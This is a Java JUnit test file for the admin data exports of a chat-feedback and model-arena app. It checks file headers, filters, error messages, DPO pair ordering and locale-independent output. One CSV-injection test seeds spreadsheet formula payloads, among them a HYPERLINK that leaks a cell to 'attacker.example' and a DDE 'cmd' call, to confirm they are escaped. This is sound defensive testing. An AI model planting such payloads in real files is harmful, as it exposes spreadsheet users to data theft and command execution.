package dev.feedbackchat.admin;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.List;
import java.util.UUID;

import dev.feedbackchat.ChatWebTest;
import dev.feedbackchat.admin.Seeder.Seed;
import dev.feedbackchat.arena.Outcome;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpHeaders;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.test.context.support.WithMockUser;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;

import static dev.feedbackchat.model.FeedbackScale.STARS;
import static dev.feedbackchat.model.FeedbackScale.THUMBS;
import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.asyncDispatch;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.request;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/** What the exports answer: headers, filters, refusals. Their content over real HTTP: AdminExportIntegrationTests. */
@ChatWebTest
@WithMockUser(username = "admin", roles = "ADMIN")
class AdminExportTests {

	@Autowired
	MockMvc mvc;

	@Autowired
	JdbcTemplate jdbc;

	@BeforeEach
	void seed() {
		Seeder seeder = new Seeder(jdbc);
		seeder.clear();
		seeder.insert(Seed.rated("up", THUMBS, 1, null, AdminDashboardTests.at(AdminDashboardTests.D, 9, 0, 0)),
				Seed.rated("down", THUMBS, 0, "no", AdminDashboardTests.at(AdminDashboardTests.D, 10, 0, 0)),
				Seed.rated("middle", STARS, 2, null, AdminDashboardTests.at(AdminDashboardTests.D, 11, 0, 0)));
	}

	/** Streamed bodies complete on another thread: wait for it, then read the response. */
	MvcResult download(String url) throws Exception {
		MvcResult started = mvc.perform(get(url)).andExpect(request().asyncStarted()).andReturn();
		return mvc.perform(asyncDispatch(started)).andExpect(status().isOk()).andReturn();
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', textBlock = """
			/admin/export.csv       | text/csv;charset=UTF-8 | feedback-TODAY.csv
			/admin/export.jsonl     | application/x-ndjson   | feedback-TODAY.jsonl
			/admin/export-kto.jsonl | application/x-ndjson   | feedback-kto-TODAY.jsonl
			/admin/export-kto.jsonl?context=turn | application/x-ndjson | feedback-kto-TODAY.jsonl
			/admin/export-sft.jsonl | application/x-ndjson   | feedback-sft-TODAY.jsonl
			/admin/export-dpo.jsonl | application/x-ndjson   | feedback-dpo-TODAY.jsonl
			/admin/export-battles.jsonl | application/x-ndjson | arena-battles-TODAY.jsonl
			""")
	void eachExportIsADatedAttachment(String path, String type, String filename) throws Exception {
		MvcResult result = download(path);
		String today = LocalDate.now(ZoneOffset.UTC).toString();
		assertThat(result.getResponse().getContentType()).isEqualTo(type);
		assertThat(result.getResponse().getHeader("Content-Disposition"))
			.isEqualTo("attachment; filename=\"" + filename.replace("TODAY", today) + "\"");
		assertThat(result.getResponse().getHeader("Cache-Control")).contains("no-store");
	}

	@Test
	void exportsHaveTheTablesFilters() throws Exception {
		String csv = download("/admin/export.csv?rating=negative&commented=true").getResponse().getContentAsString();
		List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(csv)).getRecords();
		assertThat(records).extracting(r -> r.get("prompt")).containsExactly("down");

		String jsonl = download("/admin/export.jsonl?rating=thumbs-1").getResponse().getContentAsString();
		assertThat(jsonl.lines()).hasSize(1).allSatisfy(line -> assertThat(line).contains("\"prompt\":\"up\""));
	}

	@Test
	void ktoLeavesOutNeutralRatingsEvenWhenAskedForThem() throws Exception {
		assertThat(download("/admin/export-kto.jsonl").getResponse().getContentAsString().lines())
			.containsExactly(
					"{\"prompt\":\"down\",\"completion\":\"You said, \\\"down\\\" ...interesting.\",\"label\":false,"
							+ "\"reasons\":[],\"correction\":null}",
					"{\"prompt\":\"up\",\"completion\":\"You said, \\\"up\\\" ...interesting.\",\"label\":true,"
							+ "\"reasons\":[],\"correction\":null}");
		assertThat(download("/admin/export-kto.jsonl?rating=neutral").getResponse().getContentAsString()).isEmpty();
	}

	/** OWASP's "CSV Injection": a spreadsheet runs a cell that starts with one of these as a formula. */
	@ParameterizedTest
	@ValueSource(strings = { "=", "+", "-", "@", "\t", "\r" })
	void csvCellsThatWouldBeFormulasStartWithAQuoteWhileJsonKeepsTheExactText(String start) throws Exception {
		String prompt = start + "HYPERLINK(\"https://attacker.example/?leak=\"&A1,\"Click\")";
		String answer = start + "1+1";
		String comment = start + "cmd|' /C calc'!A0";
		String correction = start + "SUM(A1:A9)";
		Seeder seeder = new Seeder(jdbc);
		seeder.clear();
		seeder.insert(new Seed(UUID.randomUUID(), prompt, answer, THUMBS, 0, comment,
				AdminDashboardTests.at(AdminDashboardTests.D, 9, 0, 0)).withCorrection(correction));

		String csv = download("/admin/export.csv").getResponse().getContentAsString();
		CSVRecord record = CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(csv)).getRecords().get(0);
		assertThat(List.of(record.get("prompt"), record.get("answer"), record.get("comment"), record.get("correction")))
			.containsExactly("'" + prompt, "'" + answer, "'" + comment, "'" + correction);
		assertThat(record.get("rating_label")).isEqualTo("Thumbs down");

		JsonMapper json = JsonMapper.builder().build();
		JsonNode line = json.readTree(download("/admin/export.jsonl").getResponse().getContentAsString().strip());
		assertThat(List.of(line.get("prompt").asString(), line.get("answer").asString(), line.get("comment").asString(),
				line.get("correction").asString()))
			.containsExactly(prompt, answer, comment, correction);
		JsonNode example = json.readTree(download("/admin/export-kto.jsonl").getResponse().getContentAsString().strip());
		assertThat(List.of(example.get("prompt").asString(), example.get("completion").asString()))
			.containsExactly(prompt, answer);
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', textBlock = """
			/admin/export.csv?rating=great         | Unknown rating “great”
			/admin/export.jsonl?from=yesterday     | The “from” date “yesterday” is not a date
			/admin/export-kto.jsonl?commented=1    | “commented” is true or false, not “1”.
			/admin/export.csv?from=2026-02-02&to=2026-02-01 | The “from” date (2026-02-02) is after the “to” date (2026-02-01).
			/admin/export-sft.jsonl?context=all     | “context” is turn or conversation, not “all”.
			/admin/export-dpo.jsonl?context=turns   | “context” is turn or conversation, not “turns”.
			/admin/export-kto.jsonl?context=TURN    | “context” is turn or conversation, not “TURN”.
			/admin/export-sft.jsonl?rating=great&context=turn | Unknown rating “great”
			/admin/export-battles.jsonl?rating=positive | Arena battles are filtered by the days voted (“from”, “to”) only, not by “rating” or “commented”.
			/admin/export-battles.jsonl?commented=false | Arena battles are filtered by the days voted (“from”, “to”) only
			/admin/export-battles.jsonl?from=2026-02-30 | The “from” date “2026-02-30” is not a date
			/admin/export-battles.jsonl?from=2026-02-02&to=2026-02-01 | The “from” date (2026-02-02) is after the “to” date (2026-02-01).
			""")
	void badFiltersGive400WithAMessageAndNoFile(String url, String message) throws Exception {
		String html = mvc.perform(get(url))
			.andExpect(status().isBadRequest())
			.andExpect(header().doesNotExist("Content-Disposition"))
			.andReturn()
			.getResponse()
			.getContentAsString();
		assertThat(Jsoup.parse(html).select(".alert").text()).startsWith(message);
	}


	static final Instant DAY = AdminDashboardTests.at(AdminDashboardTests.D, 0, 0, 0);

	/** Text a JSON writer must escape (quotes, backslash, line breaks, a tab) or keep as it is (non-ASCII, markup). */
	static final String TRICKY = "Say \"hi\",\nthen \\ bye\r\n\t😀 中文 é </script>";

	String body(String url) throws Exception {
		return download(url).getResponse().getContentAsString(StandardCharsets.UTF_8);
	}

	@Test
	void battlesAreVotedOnesOldestVoteFirstUnderChatbotArenasColumnsWithEveryWinner() throws Exception {
		Seeder seeder = new Seeder(jdbc);
		// Inserted out of order: the export orders by the vote's time.
		seeder.battle("p4", "Left", "a4", "Right", "b4", Outcome.BOTH_BAD, DAY.plus(Duration.ofDays(1)));
		seeder.battle(TRICKY, "<i>Left</i> & co", TRICKY + " A", "Right", "b1", Outcome.A_WINS, DAY.plusSeconds(9));
		seeder.battle("p3", "Left", "a3", "Right", "b3", Outcome.TIE, DAY.plusSeconds(11));
		seeder.battle("p2", "Right", "a2", "Left", "b2", Outcome.B_WINS, DAY.plusSeconds(10));
		seeder.battle("nobody voted", "Left", "a", "Right", "b", null, DAY.plusSeconds(10));

		List<String> lines = body("/admin/export-battles.jsonl").lines().toList();

		assertThat(lines).containsExactly(
				"{\"prompt\":\"Say \\\"hi\\\",\\nthen \\\\ bye\\r\\n\\t😀 中文 é </script>\",\"model_a\":\"<i>Left</i> & co\","
						+ "\"model_b\":\"Right\",\"answer_a\":\"Say \\\"hi\\\",\\nthen \\\\ bye\\r\\n\\t😀 中文 é </script> A\","
						+ "\"answer_b\":\"b1\",\"winner\":\"model_a\",\"voted_at\":\"" + DAY.plusSeconds(9) + "\"}",
				"{\"prompt\":\"p2\",\"model_a\":\"Right\",\"model_b\":\"Left\",\"answer_a\":\"a2\",\"answer_b\":\"b2\","
						+ "\"winner\":\"model_b\",\"voted_at\":\"" + DAY.plusSeconds(10) + "\"}",
				"{\"prompt\":\"p3\",\"model_a\":\"Left\",\"model_b\":\"Right\",\"answer_a\":\"a3\",\"answer_b\":\"b3\","
						+ "\"winner\":\"tie\",\"voted_at\":\"" + DAY.plusSeconds(11) + "\"}",
				"{\"prompt\":\"p4\",\"model_a\":\"Left\",\"model_b\":\"Right\",\"answer_a\":\"a4\",\"answer_b\":\"b4\","
						+ "\"winner\":\"tie (bothbad)\",\"voted_at\":\"" + DAY.plus(Duration.ofDays(1)) + "\"}");
		JsonNode first = JsonMapper.builder().build().readTree(lines.get(0));
		assertThat(first.get("prompt").asString()).isEqualTo(TRICKY);
		assertThat(first.get("answer_a").asString()).isEqualTo(TRICKY + " A");

		// The days voted, UTC, both inclusive.
		LocalDate d = AdminDashboardTests.D;
		assertThat(body("/admin/export-battles.jsonl?to=" + d).lines()).hasSize(3);
		assertThat(body("/admin/export-battles.jsonl?from=" + d.plusDays(1)).lines()).hasSize(1)
			.allSatisfy(line -> assertThat(line).contains("\"prompt\":\"p4\""));
		assertThat(body("/admin/export-battles.jsonl?from=" + d.plusDays(2))).isEmpty();
	}

	@Test
	void decisiveVotesOnFinishedAnswersJoinTheDpoPairsAsOneTurn() throws Exception {
		Seeder seeder = new Seeder(jdbc);
		seeder.battle(TRICKY, "Left", "left's answer", "Right", "right's answer", Outcome.A_WINS, DAY.plusSeconds(1));
		seeder.battle("stopped", "Left", "cut sh", "stopped", "Right", "whole", "complete", Outcome.B_WINS,
				DAY.plus(Duration.ofDays(1)));
		seeder.battle("tie", "Left", "t1", "Right", "t2", Outcome.TIE, DAY.plusSeconds(2));
		seeder.battle("both bad", "Left", "x1", "Right", "x2", Outcome.BOTH_BAD, DAY.plusSeconds(3));
		seeder.battle("failed", "Left", "fine", "complete", "Right", "half", "failed", Outcome.A_WINS, DAY.plusSeconds(4));
		seeder.battle("never ended", "Left", null, "streaming", "Right", "done", "complete", Outcome.B_WINS,
				DAY.plusSeconds(5));
		seeder.battle("same text", "Left", "same", "Right", "same", Outcome.A_WINS, DAY.plusSeconds(6));
		seeder.battle("not voted", "Left", "n1", "Right", "n2", null, DAY.plusSeconds(7));

		String first = "{\"prompt\":[{\"role\":\"user\",\"content\":\"Say \\\"hi\\\",\\nthen \\\\ bye\\r\\n\\t😀 中文 é </script>\"}],"
				+ "\"chosen\":[{\"role\":\"assistant\",\"content\":\"left's answer\"}],"
				+ "\"rejected\":[{\"role\":\"assistant\",\"content\":\"right's answer\"}]}";
		String second = "{\"prompt\":[{\"role\":\"user\",\"content\":\"stopped\"}],"
				+ "\"chosen\":[{\"role\":\"assistant\",\"content\":\"whole\"}],"
				+ "\"rejected\":[{\"role\":\"assistant\",\"content\":\"cut sh\"}]}";
		// The rated answers of seed() make no pair: each is alone in its conversation, without a correction.
		assertThat(body("/admin/export-dpo.jsonl").lines()).containsExactly(first, second);
		assertThat(body("/admin/export-dpo.jsonl?context=turn").lines()).containsExactly(first, second);
		LocalDate d = AdminDashboardTests.D;
		assertThat(body("/admin/export-dpo.jsonl?from=" + d.plusDays(1)).lines()).containsExactly(second);
		assertThat(body("/admin/export-dpo.jsonl?to=" + d).lines()).containsExactly(first);
		// A vote has no rating and no comment: a filter asking for either leaves the battles out.
		assertThat(body("/admin/export-dpo.jsonl?commented=false").lines()).containsExactly(first, second);
		assertThat(body("/admin/export-dpo.jsonl?commented=true")).isEmpty();
		assertThat(body("/admin/export-dpo.jsonl?rating=positive")).isEmpty();
	}

	@Test
	void dpoPairsOfRatedAnswersComeBeforeThoseOfVotes() throws Exception {
		Seeder seeder = new Seeder(jdbc);
		seeder.clear();
		seeder.insert(new Seed(UUID.randomUUID(), "fix it", "broken", THUMBS, 0, null, DAY.plusSeconds(60))
			.withCorrection("fixed"));
		seeder.battle("which?", "Left", "this", "Right", "that", Outcome.B_WINS, DAY);

		assertThat(body("/admin/export-dpo.jsonl").lines()).containsExactly(
				"{\"prompt\":[{\"role\":\"user\",\"content\":\"fix it\"}],\"chosen\":[{\"role\":\"assistant\","
						+ "\"content\":\"fixed\"}],\"rejected\":[{\"role\":\"assistant\",\"content\":\"broken\"}]}",
				"{\"prompt\":[{\"role\":\"user\",\"content\":\"which?\"}],\"chosen\":[{\"role\":\"assistant\","
						+ "\"content\":\"that\"}],\"rejected\":[{\"role\":\"assistant\",\"content\":\"this\"}]}");
		// The rating filter picks the rated answers' pairs and leaves the votes out.
		assertThat(body("/admin/export-dpo.jsonl?rating=negative").lines()).hasSize(1)
			.allSatisfy(line -> assertThat(line).contains("fix it"));
	}

	/**
	 * Exports are data, not pages: the visitor's language changes nothing in them (ISO times, dot decimals, labels as
	 * stored), so a German admin's download is byte for byte an English one's.
	 */
	@ParameterizedTest
	@ValueSource(strings = { "/admin/export.csv", "/admin/export.jsonl", "/admin/export-kto.jsonl",
			"/admin/export-kto.jsonl?context=conversation", "/admin/export-sft.jsonl", "/admin/export-dpo.jsonl",
			"/admin/export-battles.jsonl" })
	void exportsAreTheSameInEveryLanguage(String path) throws Exception {
		Seeder seeder = new Seeder(jdbc);
		Instant at = Instant.parse("2026-03-04T05:06:07.891234Z");
		seeder.insert(Seed.rated("Is 1.5 + 1,234.25 = 1,235.75?", THUMBS, 0, "no: 1.235,75", at)
			.withReasons("Not factually correct")
			.withCorrection("It is 1,235.75 (German: 1.235,75)."),
				Seed.rated("pi?", STARS, 4, null, at.plusSeconds(1)).withReasons("Accurate"));
		seeder.battle("Name 2.5", "Small model", "2.5", "Large model", "2,5", Outcome.A_WINS, at.plusSeconds(2));

		MvcResult english = download(path);
		MvcResult german = download(path, "de");
		MvcResult germany = download(path, "de-DE,de;q=0.9");
		byte[] bytes = english.getResponse().getContentAsByteArray();
		assertThat(bytes).isNotEmpty();
		assertThat(german.getResponse().getContentAsByteArray()).isEqualTo(bytes);
		assertThat(germany.getResponse().getContentAsByteArray()).isEqualTo(bytes);
		assertThat(german.getResponse().getHeader("Content-Disposition"))
			.isEqualTo(english.getResponse().getHeader("Content-Disposition"));
		String body = new String(bytes, StandardCharsets.UTF_8);
		if (path.startsWith("/admin/export.") || path.startsWith("/admin/export-battles")) {
			assertThat(body).contains("2026-03-04T05:06:0").doesNotContain("04.03.2026");
		}
		if (path.startsWith("/admin/export.")) {
			assertThat(body).contains("Thumbs down").doesNotContain("Daumen");
		}
	}

	MvcResult download(String url, String language) throws Exception {
		MvcResult started = mvc.perform(get(url).header(HttpHeaders.ACCEPT_LANGUAGE, language))
			.andExpect(request().asyncStarted())
			.andReturn();
		return mvc.perform(asyncDispatch(started)).andExpect(status().isOk()).andReturn();
	}

}
